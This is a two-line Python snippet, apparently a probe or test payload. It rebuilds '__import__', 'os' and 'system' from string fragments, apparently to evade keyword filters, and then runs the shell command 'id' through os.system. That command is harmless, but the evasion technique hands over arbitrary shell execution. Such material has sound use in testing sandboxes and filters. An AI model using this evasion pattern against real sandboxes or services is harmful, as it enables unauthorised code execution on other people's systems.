m = getattr(__builtins__, "__imp" + "ort__")("o" + "s")
getattr(m, "".join(["sy", "st", "em"]))("id")
